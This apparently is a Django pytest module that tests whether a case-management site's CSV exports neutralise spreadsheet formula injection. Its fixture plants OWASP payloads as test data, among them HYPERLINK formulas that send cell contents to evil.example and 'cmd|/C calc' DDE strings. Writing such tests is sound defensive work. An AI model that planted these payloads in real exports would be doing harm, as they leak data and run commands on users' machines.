"""Every CSV download is formula-safe: no cell a spreadsheet would run.

The exports are found in the URLconf (views marked @csv_export), so a new
one cannot go untested: it fails `test_every_export_in_the_urlconf_is_exercised`
until EXPORTS below says how to request it."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.exceptions import ImproperlyConfigured
from django.test import RequestFactory
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from hypothesis import given
from hypothesis import strategies as st

from cvx_site.csv_export import FORMULA_START, csv_export, csv_response, safe_cell

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]

# The payloads of OWASP's CSV injection page, one per text field a person can type.
TEAM = '=HYPERLINK("http://evil.example/?"&A1,"team")'
JOURNEY = "+1+cmd|' /C calc'!A0"
STAGE = "-2+3+cmd|' /C calc'!A0"
TOUCHPOINT = "@SUM(1+1)*cmd|' /C calc'!A0"
ROOT_CAUSE = '=HYPERLINK("http://evil.example/?"&A1,"cause")'
COMMENT = "=1+1 the line is down"
NOTES = {"acknowledge": "\t=1+2", "contact": "\r=1+3", "note": "-1+4", "resolve": "@SUM(1+5)"}
# Slugs and usernames are validated, but "-" and "+" / "@" pass their validators.
SLUG = "-1-cmd"
OWNER = "+1+cmd"


def walk(patterns, prefix: str = ""):
    for entry in patterns:
        if isinstance(entry, URLResolver):
            namespace = f"{prefix}{entry.namespace}:" if entry.namespace else prefix
            yield from walk(entry.url_patterns, namespace)
        elif isinstance(entry, URLPattern):
            yield f"{prefix}{entry.name}", entry


def csv_exports() -> dict[str, URLPattern]:
    return {
        name: pattern
        for name, pattern in walk(get_resolver().url_patterns)
        if getattr(pattern.callback, "csv_export", False)
    }


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def neutralised(value: str) -> str:
    return "'" + value


def is_number(cell: str) -> bool:
    """A number cell (safe_cell leaves numbers numeric: a negative NPS stays -100.0)."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


# For each export: the queries to ask it (every grouping and granularity), and
# the hostile values its rows must carry, neutralised (so the test cannot pass
# by exporting nothing).
GROUPS = {"owner": OWNER, "team": SLUG, "touchpoint": SLUG, "journey": SLUG, "root_cause": ROOT_CAUSE}
SERIES = [({"download": "csv", "granularity": g}, set()) for g in ("day", "week", "month")]
EXPORTS = {
    # The services strip notes, so the tab and carriage return go before the "=".
    "cases:audit-export": [({}, {OWNER, *(note.strip() for note in NOTES.values())})],
    "cases:metrics": [({"download": "csv", "group_by": group}, {value}) for group, value in GROUPS.items()],
    "cases:insights-journey": SERIES,
    "cases:insights-touchpoint": SERIES,
    "cases:insights-root-causes": [({"download": "csv"}, {ROOT_CAUSE, f"{TOUCHPOINT} (1)"})],
    "cases:insights-pillars": [
        ({"download": "csv", "journey": SLUG}, {JOURNEY}),
        ({"download": "csv", "touchpoint": SLUG}, {TOUCHPOINT}),
        ({"download": "csv", "team": SLUG}, {TEAM}),
    ],
}


@pytest.fixture
def hostile_case(db, client, django_capture_on_commit_callbacks):
    """A detractor's case on a journey, stage, touchpoint, team and owner with
    hostile names, worked with hostile notes, resolved with a hostile root
    cause and recovered by the customer's follow-up answer."""
    from django.contrib.auth import get_user_model
    from django.contrib.auth.models import Group

    from cases import services
    from cases.choices import AssignmentStrategy, CaseOutcome
    from cases.models import Case, RootCause, RoutingRule
    from feedback.models import SurveyInvitation
    from feedback.services import feedback_ingest
    from feedback.surveys import invitation_token
    from journeys.models import Journey, Stage, Team, Touchpoint
    from journeys.roles import FRONTLINE

    owner = get_user_model().objects.create_user(username=OWNER, password="a-Long-test-passw0rd")
    owner.groups.add(Group.objects.get(name=FRONTLINE))
    team = Team.objects.create(name=TEAM, slug=SLUG)
    team.members.add(owner)
    journey = Journey.objects.create(name=JOURNEY, slug=SLUG)
    stage = Stage.objects.create(journey=journey, name=STAGE, position=1)
    Touchpoint.objects.create(
        stage=stage,
        name=TOUCHPOINT,
        slug=SLUG,
        channel="call_center",
        team=team,
        default_owner=owner,
        first_contact_sla_hours=4,
        resolution_sla_hours=24,
    )
    RoutingRule.objects.create(name="Detractors", position=10, nps_at_most=6, strategy=AssignmentStrategy.DEFAULT_OWNER)
    cause = RootCause.objects.create(name=ROOT_CAUSE)
    outcome = feedback_ingest(
        item={
            "touchpoint": SLUG,
            "source": "survey",
            "external_id": "hostile-1",
            "nps": 1,
            "csat": 1,
            "comment": COMMENT,
            "customer": {"email": "hostile@example.com"},
        }
    )
    assert outcome.status == "created", outcome.errors
    services.response_route(response_id=outcome.response.pk)
    case = Case.objects.get(feedback=outcome.response)
    services.case_acknowledge(case_id=case.pk, actor=owner, note=NOTES["acknowledge"])
    services.case_log_contact(case_id=case.pk, actor=owner, channel="phone", note=NOTES["contact"])
    services.case_note(case_id=case.pk, actor=owner, note=NOTES["note"])
    with django_capture_on_commit_callbacks(execute=True):
        services.case_resolve(case_id=case.pk, actor=owner, root_cause=cause, note=NOTES["resolve"])
    invitation = SurveyInvitation.objects.get(customer=case.customer_id)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/s/{invitation_token(invitation)}/", {"nps": "10", "csat": "5", "comment": COMMENT})
    case.refresh_from_db()
    assert case.outcome == CaseOutcome.RECOVERED
    return case


def test_every_export_in_the_urlconf_is_exercised():
    assert set(csv_exports()) == set(EXPORTS)


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_cell_of_any_export_begins_with_a_formula_character(name, hostile_case, cx_admin):
    from django.test import Client

    client = Client()
    client.force_login(cx_admin)
    pattern = csv_exports()[name]
    kwargs = {key: {"slug": SLUG, "pk": hostile_case.pk}[key] for key in pattern.pattern.converters}
    url = reverse(name, kwargs=kwargs)
    for query, expected in EXPORTS[name]:
        rows = rows_of(client.get(url, query))
        cells = [cell for row in rows for cell in row]
        assert len(rows) > 1, f"{url}?{query} exported no rows"
        assert [c for c in cells if c.startswith(FORMULA_START) and not is_number(c)] == [], f"{url}?{query}"
        # Each hostile value this export reaches is there, whole, as text.
        assert {neutralised(v) for v in expected} <= set(cells), f"{url}?{query}"


def test_negative_numbers_stay_numbers(hostile_case, cx_admin, client):
    """Yesterday's NPS is -100 (one detractor): a number, not text."""
    from datetime import timedelta

    from django.utils import timezone

    from feedback.services import feedback_ingest

    outcome = feedback_ingest(
        item={
            "touchpoint": SLUG,
            "source": "survey",
            "external_id": "hostile-2",
            "nps": 0,
            "occurred_at": (timezone.now() - timedelta(days=1)).isoformat(),
        }
    )
    assert outcome.status == "created", outcome.errors
    client.force_login(cx_admin)
    url = reverse("cases:insights-touchpoint", kwargs={"slug": SLUG})
    rows = rows_of(client.get(url, {"download": "csv", "granularity": "day"}))
    nps = [row[rows[0].index("nps")] for row in rows[1:]]
    assert "-100.0" in nps and not any(v.startswith("'") for v in nps)


def test_a_download_outside_a_marked_view_is_refused():
    with pytest.raises(ImproperlyConfigured, match="not marked @csv_export"):
        csv_response("x.csv", ["a"], [])


def test_a_marked_view_streams_rows_of_mappings_and_sequences():
    @csv_export
    def view(request):
        return csv_response('we"ird\nname.csv', ["a", "b"], [{"a": "=1", "b": None}, ["-2", -2]])

    response = view(RequestFactory().get("/"))
    assert rows_of(response) == [["a", "b"], ["'=1", ""], ["'-2", "-2"]]
    assert response["Content-Disposition"] == 'attachment; filename="we-ird-name.csv"'


def test_no_code_writes_csv_around_the_one_writer():
    """A csv.writer or a text/csv response anywhere else would skip safe_cell."""
    writer = ROOT / "cvx_site" / "csv_export.py"
    offenders = []
    for app in ("cvx_site", "journeys", "feedback", "cases"):
        for path in (ROOT / app).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if path != writer and re.search(r"csv\.(writer|DictWriter)\b|text/csv", text):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


@given(st.text())
def test_no_text_cell_begins_with_a_formula_character(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_START)
    assert cell in (text, "'" + text)


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.decimals(allow_nan=False)))
def test_numbers_are_written_as_numbers(number):
    assert safe_cell(number) is number


@pytest.mark.parametrize("text", ["-1+1", "+44 20", "@x", "\t=1", "\r=1", "=1"])
def test_text_that_looks_like_a_formula_or_a_number_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [Decimal("-1.5"), -3, -0.5, True])
def test_real_numbers_keep_their_sign(value):
    assert safe_cell(value) == value
